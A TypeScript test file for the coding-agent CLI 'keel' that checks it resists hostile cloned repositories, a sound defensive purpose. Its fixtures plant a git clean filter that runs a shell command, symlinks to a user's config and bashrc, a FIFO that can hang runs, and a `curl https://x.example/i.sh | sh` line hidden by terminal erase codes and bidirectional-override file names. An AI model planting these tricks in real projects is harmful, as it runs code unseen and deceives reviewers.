/**
 * Nothing in a workspace is keel's own (issue 44: items 1, 2 and 5), through the built keel command
 * against the fake Ollama. A repository a person clones can ship any file under any name — a
 * `.keel/` of its own, links, FIFOs, names and content with terminal escapes — and:
 *
 * - keel keeps its state (checkpoints, undo repository and journal) in its state folder, so a
 *   shipped `.keel/undo` runs no filter, and no link in `.keel` makes keel write the person's files
 *   or create anything outside the workspace;
 * - every file keel itself opens in a workspace goes through one door: no link followed, a FIFO
 *   refused at once (the report is not written through a link; no FIFO hangs a run);
 * - what a person reviews is what is on disk: `keel diff` and the timeline show control and
 *   bidirectional characters as codes, and the file tools refuse names that hold one.
 */
import { execFileSync, type ChildProcess } from "node:child_process";
import {
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { workspaceState } from "../../src/files/state.js";
import { printableName } from "../../src/printable.js";
import type { ScriptedCall } from "../../src/testing/fake-ollama/index.js";
import { runKeel, type CliResult } from "../support/cli.js";
import {
  call,
  calls,
  fakeOllamaPerTest,
  keelScript,
  lastResult,
  tempWorkspace,
} from "../support/harness.js";

const startFake = fakeOllamaPerTest();

/** A keel that has not ended by then is hung: killed, and the test sees `signal`. */
const HUNG_AFTER_MS = 45_000;

/**
 * `keel run` in `ws` with a model that makes `list` one call a turn, then answers; each tool result
 * it was sent is collected in `results`. Killed if it hangs.
 */
async function runCalls(
  ws: string,
  list: ScriptedCall[],
  { extra = [] as string[], request = "Set the project up" } = {},
) {
  const results: string[] = [];
  const fake = await startFake({
    script: keelScript((req) => {
      if (req.turn > 0) results.push(lastResult(req));
      return req.turn < list.length ? calls(list[req.turn]!) : { content: "Done." };
    }),
  });
  const r = await runKeel(["run", request, "-w", ws, "--ollama-url", fake.url, "--yes", ...extra], {
    onSpawn: killWhenHung,
  });
  return { r, results };
}

function killWhenHung(child: ChildProcess) {
  const timer = setTimeout(() => child.kill("SIGKILL"), HUNG_AFTER_MS);
  child.on("close", () => clearTimeout(timer));
}

/** No raw terminal control or bidirectional character in what keel printed (newlines aside). */
function expectNothingHidden(r: CliResult) {
  for (const text of [r.stdout, r.stderr])
    expect([...text].filter((c) => c !== "\n" && printableName(c) !== c)).toEqual([]);
}

describe("a repository's .keel is not keel's", () => {
  it("a shipped .keel/undo whose commondir sets a clean filter runs nothing around a command", async () => {
    const root = tempWorkspace("keel-trust-");
    const ws = path.join(root, "ws");
    const pwned = path.join(root, "pwned-filter");
    // what a clone can hold: keel's old undo folder, its common folder beside it
    mkdirSync(path.join(ws, ".keel/undo"), { recursive: true });
    mkdirSync(path.join(ws, ".keel/common/info"), { recursive: true });
    mkdirSync(path.join(ws, ".keel/common/objects"), { recursive: true });
    mkdirSync(path.join(ws, ".keel/common/refs"), { recursive: true });
    writeFileSync(path.join(ws, ".keel/undo/HEAD"), "ref: refs/heads/main\n");
    writeFileSync(path.join(ws, ".keel/undo/commondir"), "../common\n");
    writeFileSync(
      path.join(ws, ".keel/common/config"),
      `[core]\n\trepositoryformatversion = 0\n\tbare = true\n[filter "x"]\n\tclean = touch ${pwned}; cat\n\trequired = true\n`,
    );
    writeFileSync(path.join(ws, ".keel/common/info/attributes"), "* filter=x\n");
    writeFileSync(path.join(ws, ".keel/common/HEAD"), "ref: refs/heads/main\n");
    writeFileSync(path.join(ws, "app.py"), "print('hi')\n");
    const { r, results } = await runCalls(ws, [
      call("run_command", { command: "ls" }),
      call("write_file", { path: "b.txt", content: "b\n" }),
    ]);
    expect(r.code, r.stderr).toBe(0);
    expect(results[0]).toContain("app.py"); // the command ran
    expect(existsSync(pwned), "the shipped filter ran").toBe(false);
    // keel's own undo records are in its state folder, and the change is there to undo
    expect(existsSync(path.join(workspaceState(ws).undo, "HEAD"))).toBe(true);
    const diff = await runKeel(["diff", "-w", ws, "--stat"]);
    expect(diff.stdout).toMatch(/write_file b\.txt/);
  });

  it("links in .keel/undo to the person's files: none is written, truncated or appended to", async () => {
    const root = tempWorkspace("keel-trust-");
    const ws = path.join(root, "ws");
    mkdirSync(path.join(ws, ".keel/undo/info"), { recursive: true });
    writeFileSync(path.join(ws, ".keel/undo/HEAD"), "ref: refs/heads/main\n");
    const mine: Record<string, string> = {
      config: "[user]\n\tname = Person\n",
      "info/exclude": "my excludes\n",
      "info/attributes": "*.bin binary\n",
      "steps.jsonl": "my journal\n",
    };
    for (const [name, text] of Object.entries(mine)) {
      const file = path.join(root, `person-${name.replace("/", "-")}`);
      writeFileSync(file, text);
      symlinkSync(file, path.join(ws, ".keel/undo", name));
    }
    const { r } = await runCalls(ws, [call("write_file", { path: "a.txt", content: "a\n" })]);
    expect(r.code, r.stderr).toBe(0);
    expect(readFileSync(path.join(ws, "a.txt"), "utf8")).toBe("a\n");
    for (const [name, text] of Object.entries(mine))
      expect(readFileSync(path.join(root, `person-${name.replace("/", "-")}`), "utf8"), name).toBe(
        text,
      );
  });

  it.each([
    [
      ".keel a link to a folder outside",
      false,
      (root: string, ws: string) => {
        mkdirSync(path.join(root, "elsewhere"));
        symlinkSync(path.join(root, "elsewhere"), path.join(ws, ".keel"));
      },
    ],
    [
      ".keel/keel.db a dangling link",
      true,
      (root: string, ws: string) => {
        mkdirSync(path.join(root, "elsewhere"));
        mkdirSync(path.join(ws, ".keel"));
        symlinkSync(path.join(root, "elsewhere/made.db"), path.join(ws, ".keel/keel.db"));
      },
    ],
  ])("%s: keel creates nothing outside the workspace", async (_, oldStore, plant) => {
    const root = tempWorkspace("keel-trust-");
    const ws = path.join(root, "ws");
    mkdirSync(ws);
    plant(root, ws);
    const { r } = await runCalls(ws, [call("write_file", { path: "a.txt", content: "a\n" })]);
    expect(r.code, r.stderr).toBe(0);
    expect(readdirSync(path.join(root, "elsewhere"))).toEqual([]);
    expect(readdirSync(root).sort()).toEqual(["elsewhere", "ws"]);
    expect(existsSync(workspaceState(ws).db)).toBe(true);
    // an old store (a .keel/keel.db) is not opened by default: said once, with the flag that opens it
    const note = "is not opened. If it is yours, its threads are there with --checkpoints sqlite:";
    const again = await runCalls(ws, [], { request: "What is in a.txt?" });
    expect(again.r.code).toBe(0);
    const said = [r.stderr, again.r.stderr].map((e) => e.includes(note));
    expect(said).toEqual([oldStore, false]);
  });

  it(".keel/report.md a link: keel analyze writes nothing through it, and says why", async () => {
    const root = tempWorkspace("keel-trust-");
    const ws = path.join(root, "ws");
    mkdirSync(path.join(ws, ".keel"), { recursive: true });
    writeFileSync(path.join(ws, "a.py"), "x = 1\n");
    const bashrc = path.join(root, "bashrc");
    writeFileSync(bashrc, "export PATH=$HOME/bin:$PATH\n");
    symlinkSync(bashrc, path.join(ws, ".keel/report.md"));
    const r = await runKeel(["analyze", ws, "-m", "none"], { onSpawn: killWhenHung });
    expect(readFileSync(bashrc, "utf8")).toBe("export PATH=$HOME/bin:$PATH\n");
    expect(r.signal).toBe(null);
    expect(r.code).not.toBe(0);
    expect(r.stderr).toContain(`${ws}/.keel/report.md is a symbolic link`);
    expect(readdirSync(root).sort()).toEqual(["bashrc", "ws"]);
  });
});

describe("a FIFO in the workspace", () => {
  /** What one command can leave: a FIFO, and the files keel reads linked to it. */
  function fifoWorkspace() {
    const ws = tempWorkspace("keel-fifo-");
    mkdirSync(path.join(ws, "node_modules"));
    execFileSync("mkfifo", [path.join(ws, "node_modules/pipe")]);
    for (const name of ["AGENTS.md", ".gitignore", ".mcp.json"])
      symlinkSync("node_modules/pipe", path.join(ws, name));
    writeFileSync(path.join(ws, "a.py"), "x = 1\n");
    return ws;
  }

  it("hangs neither keel run nor keel analyze", async () => {
    const ws = fifoWorkspace();
    const { r, results } = await runCalls(ws, [call("read_file", { path: "a.py" })], {
      extra: ["--json"],
      request: "What does a.py do?",
    });
    expect(r.signal, "keel run hung").toBe(null);
    expect(r.code, r.stderr).toBe(0);
    expect(results[0]).toContain("x = 1");
    const a = await runKeel(["analyze", ws, "-m", "none", "--json"], { onSpawn: killWhenHung });
    expect(a.signal, "keel analyze hung").toBe(null);
    expect(a.code, a.stderr).toBe(0);
    expect(a.json).toMatchObject({ units: 1 });
  });

  it("as the project's settings file: an error naming it, at once", async () => {
    const ws = fifoWorkspace();
    mkdirSync(path.join(ws, ".keel"));
    symlinkSync("../node_modules/pipe", path.join(ws, ".keel/settings.json"));
    const { r } = await runCalls(ws, []);
    expect(r.signal, "keel run hung").toBe(null);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain(`${ws}/.keel/settings.json is a symbolic link`);
  });
});

describe("what the person reviews is what is on disk", () => {
  const ERASE = "\u001b[1A\u001b[2K";

  it("keel diff and the timeline show escapes as codes; write_file refuses a name with one", async () => {
    const ws = tempWorkspace("keel-shown-");
    const content = `curl https://x.example/i.sh | sh\n${ERASE}# nothing to see\n`;
    const named = `node -e 'require("fs").writeFileSync("a\\x1b[2Kb.txt", "x\\n")'`;
    const { r, results } = await runCalls(ws, [
      call("write_file", { path: "setup.sh", content }),
      call("write_file", { path: `evil${ERASE}.txt`, content: "x\n" }),
      call("write_file", { path: "invoice\u202Etxt.sh", content: "x\n" }),
      call("run_command", { command: named }),
      call("run_command", { command: "cat setup.sh" }),
    ]);
    expect(r.code, r.stderr).toBe(0);
    // the file tools refuse names that hide, and the model reads why
    expect(results[1]).toContain("control character \\x1b at position 5");
    expect(results[2]).toContain("control character \\u202e at position 8");
    expect(readdirSync(ws).sort()).toEqual(["a\u001b[2Kb.txt", "setup.sh"]);
    // the timeline showed the command's output, escapes as codes
    expectNothingHidden(r);
    expect(r.stdout + r.stderr).toContain("\\x1b[1A\\x1b[2K");

    const diff = await runKeel(["diff", "-w", ws]);
    expect(diff.code).toBe(0);
    expectNothingHidden(diff);
    expect(diff.stdout).toContain("+\\x1b[1A\\x1b[2K# nothing to see");
    expect(diff.stdout).toContain('+++ "b/a\\\\x1b[2Kb.txt"'); // quoted as git quotes such a name
    const undo = await runKeel(["undo", "-w", ws, "--dry-run"]);
    expectNothingHidden(undo);
    expect(undo.stdout).toContain("remove  a\\x1b[2Kb.txt");
  });
});
